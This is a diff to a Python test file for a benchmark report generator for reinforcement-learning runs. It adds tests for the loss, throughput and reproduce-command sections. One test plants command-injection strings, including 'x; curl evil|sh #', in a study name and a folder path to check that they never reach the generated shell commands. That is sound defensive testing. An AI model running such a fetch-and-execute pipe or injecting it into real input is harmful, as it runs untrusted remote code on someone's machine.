@@ -170,7 +170,7 @@ def test_older_code_is_counted(tmp_path: Path) -> None:
     older = make_result(final_return=-7e6)
     older.provenance["code_hash"], older.started_at = "01d", "2024-01-01T00:00:00+00:00"
     text = _text(with_id(older), make_result(), folder=tmp_path)
-    assert "1 cell left out: a newer cell differs from it only by code." in text
+    assert "1 cell left out: a newer cell differs from it only by code or platform." in text
     assert "7,000,000" not in text
 
 
@@ -362,3 +362,28 @@ def test_many_cells_are_sorted_in_one_pass(monkeypatch: pytest.MonkeyPatch, tmp_
         found: Collection = collect(save_all(tmp_path / str(seeds), *runs))
         per_cell.append(calls / len(found.cells))
     assert per_cell[0] == per_cell[1]
+
+
+def test_shell_text_is_never_in_a_command(tmp_path: Path) -> None:
+    run = make_result()
+    run.provenance["study"] = "x; curl evil|sh #"
+    text = _text(run, folder=tmp_path / "a; curl evil")
+    assert "polobench run STUDY --store STORE\npolobench report STORE\n" in text
+    assert "curl" not in _section(text, "Reproduce")
+
+
+def test_loss_convergence_is_shown(tmp_path: Path) -> None:
+    runs = [make_result(seed=seed) for seed in range(5)]
+    for run, samples in zip(runs, (1000.0, 2000.0, 3000.0, None, None)):
+        run.loss_convergence = {"start": 4.0, "end": 2.0, "samples": samples}
+    runs[4].loss_convergence = {}
+    text = _text(failed(runs[0]), *runs[1:], make_result("random", loss_convergence={}), folder=tmp_path)
+    rows = [[cell.strip() for cell in row] for row in _rows(_section(text, "Loss and KL"))]
+    assert rows[2:] == [["CartPole-v1", "50,000 samples", "ppo", "cpu", "4/5", "4.00", "2.00", "3,000"]]
+
+
+def test_updates_per_second_are_shown(tmp_path: Path) -> None:
+    cell = make_throughput()
+    cell.throughput["updates_per_second"] = 12.345
+    rows = [[part.strip() for part in row] for row in _rows(_section(_text(cell, folder=tmp_path), "Throughput"))]
+    assert dict(zip(rows[0], rows[2]))["updates/s"] == "12.3"
